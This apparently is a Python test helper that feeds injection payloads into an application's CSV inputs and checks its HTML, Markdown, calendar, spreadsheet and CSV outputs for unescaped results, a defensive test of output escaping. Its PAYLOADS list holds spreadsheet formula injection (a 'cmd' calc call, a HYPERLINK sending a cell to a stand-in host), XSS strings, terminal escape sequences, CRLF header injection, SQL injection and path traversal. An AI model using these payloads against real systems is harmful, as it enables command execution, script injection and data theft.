# SPDX-License-Identifier: MIT
# injection.py - the payloads of injection.sh and the eyes that look for them in what was written.
#   poison CLEAN BAD   the CSV of CLEAN with payloads for their texts
#   same BAD BACK      what came back is what went in
#   names FILE FOLDER  copies of FILE whose names are payloads
#   outline FILE       an outline whose texts are payloads
#   refused FILE       figures of which nothing can be read
#   payload N          the N-th
#   check CLEAN BAD    what was written with them beside what was written without
import csv, json, os, re, sys, zipfile
from html.parser import HTMLParser
import xml.etree.ElementTree as xml

csv.field_size_limit(1 << 24)

STARTS = ['=', '+', '-', '@', "'=", ' =', '']
PAYLOADS = [
    '=HYPERLINK("http://zq.example/?"&A1,"zq")', '+cmd|\' /C calc\'!A0zq', '-2+3+cmd|zq', '@SUM(1+1)zq', '\t=1+1 zq', '"=1+zq',
    '<zq>', '<script>zq()</script>', '</script><script>zq()</script>', '</style></title></textarea><zq>', '"><zq onload=zq()>',
    "' onmouseover='zq()", '" onfocus="zq()" autofocus="', '<svg/onload=zq()>', '<img src=x onerror=zq()>', '<!-- zq', ']]><zq>',
    '&lt;zq&gt; &#60;zq&#62; &zq;', 'javascript:zq()', '<a href="javascript:zq()">zq</a>', 'data:text/html,<zq>',
    '[zq](javascript:zq)', '![zq](http://zq.example/x.png)', 'zq | a | b |', '`zq` ```', '# zq', '- zq', '1. zq', '> zq', '<http://zq.example>',
    '*zq* _zq_ **zq**', '[zq]: http://zq.example', 'zq\\', '~~~ zq', '--- zq',
    'zq \x1b[2J\x1b[31m', 'zq \x1b]8;;http://zq.example\x07x\x1b]8;;\x07', 'zq \x1b]52;c;enE=\x07', 'zq \u202e gpj.exe', 'zq\u200b\u2066zq\u2069',
    'zq \u009b31m \u0085 \u0090', 'zq \x7f\x08\x08', 'zq\r\nATTACH:http://zq.example', 'zq\nEND:VEVENT\nBEGIN:VALARM', 'zq;VALUE=URI:x,y\\,\\;\\n',
    'zq\r\nBcc: zq@example.org', 'zq\u2028zq\u2029', "zq'; DROP TABLE office; --", "zq' OR '1'='1", 'zq") UNION SELECT 1 --', 'zq%s%s%n%x', '%n zq',
    '../../zq', '/etc/zq', '-zq', '--output=zq', '{code}{period}zq', '${zq} $(zq) zq', '\ufeffzq',
]
EVERYTHING = ' '.join(PAYLOADS)
TEXTS = {
    'offices': 'name commune email phone web', 'territories': 'name type', 'partners': 'name role web',
    'labels': 'name reference reason', 'sessions': 'title theme place provider', 'objectives': 'label',
    'breaks': 'reason', 'indicators': 'label_fr label_en unit reference', 'activities': 'title proof',
    'agreements': 'with proof', 'calendar': 'label', 'progress': 'note proof', 'targets': 'note',
    'evidence': 'label_fr label_en', 'actions': 'title owner partners proof blocked', 'perimeters': 'name',
    'lodging': 'name', 'resolutions': 'label_fr label_en', 'events': 'note', 'needs': 'theme note',
}
faults = []


def fault(where, what):
    if len(faults) < 40:
        faults.append(f'{where}: {what!a}')


def table(path, delimiter=','):
    with open(path, encoding='utf-8', newline='') as file:
        return list(csv.reader(file, delimiter=delimiter))


def poison(clean, bad):
    count = 0
    for name in sorted(os.listdir(clean)):
        rows = table(f'{clean}/{name}')
        kind = name[:-4]
        texts = TEXTS.get(kind, '').split()
        if kind == 'settings':
            rows[1:] = []
            for i, setting in enumerate(('network_name', 'network_contact', 'network_licence')):
                rows.append([setting, STARTS[i] + EVERYTHING])
        for row in rows[1:]:
            for i, column in enumerate(rows[0]):
                if column in texts:
                    count += 1
                    row[i] = PAYLOADS[count % len(PAYLOADS)] if count % 7 else STARTS[count // 7 % len(STARTS)] + 'q' + EVERYTHING
        if kind in ('offices', 'territories', 'partners'):  # codes are theirs to choose too
            rows += [[p if i < 2 else '' for i in range(len(rows[0]))] for p in ('=1+1zq', '@zq', '-zq', '../zq', 'zq<b>')]
        if kind != 'observations' and len(rows) > 1:
            with open(f'{bad}/{name}', 'w', encoding='utf-8', newline='') as file:
                csv.writer(file, quoting=csv.QUOTE_ALL).writerows(rows)
    if count < 100:
        fault(clean, 'no texts')


def plain(cell):
    cell = re.sub("^'(?='*[-=+@\t\r])", '', cell)
    return re.sub('[ \\t\\r\\n\u2028\u2029]+', ' ', cell).strip(' \ufeff')


def same(bad, back):
    for name in sorted(os.listdir(bad)):
        was, now = table(f'{bad}/{name}'), table(f'{back}/{name}')
        texts = [i for i, c in enumerate(was[0]) if c in TEXTS.get(name[:-4], 'value').split()]
        if len(was) != len(now):
            fault(name, f'{len(was)} rows became {len(now)}')
        for one in texts:
            left, right = sorted(plain(r[one]) for r in was[1:]), sorted(plain(r[one]) for r in now[1:])
            for a, b in zip(left, right):
                if a != b:
                    lost, found = set(left) - set(right), set(right) - set(left)
                    fault(name, f'{was[0][one]}: {sorted(lost)[:3]} became {sorted(found)[:3]}'[-300:])
                    break


def names(source, folder):
    with open(source, encoding='utf-8') as file:
        head, first = file.readline(), file.readline()
    for i, payload in enumerate(PAYLOADS):
        if len(payload) < 60:
            with open(os.path.join(folder, payload.replace('/', '_')[:80] + '.csv'), 'w', encoding='utf-8') as file:
                file.write(head + first.replace('2024-01', f'2022-{1 + i % 12:02}'))


def outline(path):
    with open(path, 'w', encoding='utf-8') as file:
        for i, payload in enumerate(PAYLOADS):
            if not re.search('[\n\r;]', payload):
                file.write(f'[+zq{i}]\ntitle = outline {payload}\ntext = {payload}\n\n')
        file.write('[essentials]\nshow = yes\n')


def refused(path):
    with open(path, 'w', encoding='utf-8', newline='') as file:
        csv.writer(file).writerows([['office', 'indicator', 'period', 'value']] + [[p, p, p, p] for p in PAYLOADS])


# ---- what a format must not have ----------------------------------------------------------
CONTROL = re.compile('[\x00-\x09\x0b-\x1f\x7f\x80-\x9f\u202a-\u202e\u2066-\u2069]')


def no_controls(path, text, but=''):
    found = next((m for m in CONTROL.finditer(text) if m.group() not in but), None)
    if found:
        fault(path, 'a control character in ' + text[max(0, found.start() - 40):found.end() + 10])


def no_formulas(path, delimiter):
    rows = table(path, delimiter) if delimiter == ',' else [l.rstrip('\n').split('\t') for l in open(path, encoding='utf-8', newline='\n')]
    for row in rows:
        if len(row) != len(rows[0]):
            fault(path, f'{len(row)} cells for {len(rows[0])}')
        for cell in row:
            if cell[:1] in tuple('=+-@\t\r') and not re.fullmatch(r'-?\d+(\.\d+)?|-', cell):
                fault(path, 'a formula: ' + cell[:60])


class Page(HTMLParser):
    def __init__(self):
        super().__init__()
        self.kinds, self.addresses, self.script, self.raw = set(), set(), None, []

    def handle_starttag(self, tag, attributes):
        self.script = tag if tag in ('script', 'style') else None
        for name, value in attributes:
            self.kinds.add(f'<{tag} {name}>')
            if name in ('href', 'src', 'xlink:href', 'action', 'formaction', 'style', 'srcset') or name.startswith('on'):
                self.addresses.add(re.sub(r'[\x00-\x20]', '', value or '').lower())
        self.kinds.add(f'<{tag}>')

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag):
        self.kinds.add(f'</{tag}>')
        self.script = None

    def handle_comment(self, data):
        self.kinds.add('<!--')

    def handle_decl(self, decl):
        self.kinds.add('<!' + decl)

    def handle_data(self, data):
        if self.script and 'zq' in data:
            self.raw.append(data)


def page(path, text):
    p = Page()
    p.feed(text)
    p.close()
    for address in p.addresses:
        if re.match('[a-z+.-]+:', address) and not re.match('https?:|mailto:|data:image/', address) and 'zq' in address:
            fault(path, 'a link to ' + address[:60])
    if p.raw:
        fault(path, 'in a script or style: ' + p.raw[0][:60])
    return p.kinds


RAW = re.compile(r'<(zq|script|svg|img|a |/script|/style|!--)|(?<!\\)\[zq\]|(?<![\\`])`zq|(?<!\\)\*zq\*|(?<!\\)zq \| a \| b', re.M)
BLOCK = re.compile(r'^(# |1\. |> |- |~~~ |--- )zq$', re.M)


def markdown(path, text):
    text = re.sub('^    .*', '', text, flags=re.M)
    # texts of an outline are Markdown, and may be all but HTML
    text = re.sub(r'^## .*\n\n(?!\|).*', '', text, flags=re.M) if 'outline zq' in text else text
    for found in list(RAW.finditer(text)) + list(BLOCK.finditer(text)):
        fault(path, 'Markdown of theirs: ' + text[max(0, found.start() - 20):found.end() + 20])
    width = 0
    for line in text.split('\n'):
        bars = len(re.findall(r'(?<!\\)\|', line)) if line.startswith('|') else 0
        if width and bars and bars != width:
            fault(path, f'{bars} bars for {width}: ' + line[:80])
        width = bars


def calendar(path, text):
    kinds, open_ = set(), []
    for line in re.sub('\r\n[ \t]', '', text).split('\r\n')[:-1]:
        found = re.match('([A-Z-]+)((?:;[A-Z-]+=(?:"[^"]*"|[^":;,]*))*):', line)
        if not found:
            fault(path, 'no property: ' + line[:60])
            continue
        kinds.add(found.group(1) + re.sub('=[^;]*', '', found.group(2)))
        if found.group(1) in ('BEGIN', 'END'):
            kinds.add(line)
    no_controls(path, text, '\r\t')
    return kinds


def workbook(path):
    kinds = set()
    with zipfile.ZipFile(path) as book:
        for name in book.namelist():
            if not re.fullmatch(r'[A-Za-z0-9_./\[\]]+', name) or '..' in name:
                fault(path, 'a part named ' + name)
            if name.endswith(('.xml', '.rels')):
                for node in xml.fromstring(book.read(name)).iter():
                    tag = node.tag.split('}')[-1]
                    kinds.add(tag)
                    target = node.get('Target', '')
                    if node.get('TargetMode') == 'External' and not re.match('https?:|mailto:', target):
                        fault(path, 'a link to ' + target)
                    if tag == 'f' and 'zq' in (node.text or ''):
                        fault(path, 'a formula: ' + node.text[:60])
    return kinds


def sketch(path, text):
    return {node.tag.split('}')[-1] for node in xml.fromstring(text).iter()}


def look(path):
    """What is wrong by itself is said; the kinds of things it is made of are compared."""
    suffix = path.rsplit('.', 1)[1]
    if suffix == 'xlsx':
        return workbook(path), ''
    with open(path, encoding='utf-8', newline='') as file:
        text = file.read()
    if suffix in ('table', 'text', 'txt', 'stderr', 'md', 'html', 'svg'):
        no_controls(path, text)
    if suffix in ('csv', 'sdmx-csv'):
        no_formulas(path, ',')
    if suffix == 'tsv':
        no_formulas(path, '\t')
    if suffix == 'json':
        json.loads(text)
    if suffix == 'jsonl':
        [json.loads(line) for line in text.split('\n')[:-1]]
    if suffix == 'md':
        markdown(path, text)
    return {'html': page, 'ics': calendar, 'svg': sketch}.get(suffix, lambda p, t: set())(path, text), text


def check(clean, bad):
    usual, seen = {}, {}
    for folder in (clean, bad):
        for name in sorted(os.listdir(folder)):
            path = os.path.join(folder, name)
            suffix = name.rsplit('.', 1)[1]
            try:
                kinds, text = look(path)
            except Exception as error:
                fault(path, f'{type(error).__name__}: {error}')
                continue
            if folder == clean:
                usual.setdefault(suffix, set()).update(kinds)
            else:
                seen[suffix] = seen.get(suffix, False) or 'zq' in text or suffix in ('xlsx', 'sdmx-csv')
                if kinds - usual.get(suffix, set()):
                    fault(path, 'new: ' + ' '.join(sorted(kinds - usual.get(suffix, set())))[:300])
    for suffix, has in seen.items():
        if not has:
            fault(suffix, 'none of it was ever written')


{'poison': poison, 'same': same, 'names': names, 'outline': outline, 'refused': refused, 'check': check,
 'payload': lambda n: print(PAYLOADS[int(n)], end='')}[sys.argv[1]](*sys.argv[2:])
for line in faults:
    print(line)
sys.exit(bool(faults))
